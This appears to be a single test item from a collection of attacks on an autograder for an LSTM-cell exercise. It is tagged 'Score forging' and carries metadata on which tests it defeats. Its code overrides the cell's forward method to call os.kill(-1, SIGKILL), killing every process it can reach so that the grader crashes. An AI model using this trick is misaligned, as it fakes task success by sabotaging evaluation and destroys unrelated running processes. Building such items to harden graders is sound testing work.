# /// attack
# title = "kill(-1, SIGKILL)"
# group = "Score forging"
# verdict = "S"
# points = 75
# loses = ["celdaLSTM/*", "gradientes/lstm_cell", "gradientes/lstm_long"]
# keeps = ["celdaLSTM/parameters", "celdaLSTM/reset_parameters"]
# outcomes = ["crashed"]
# ///
import os
import signal


class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        os.kill(-1, signal.SIGKILL)
        signal.pause()
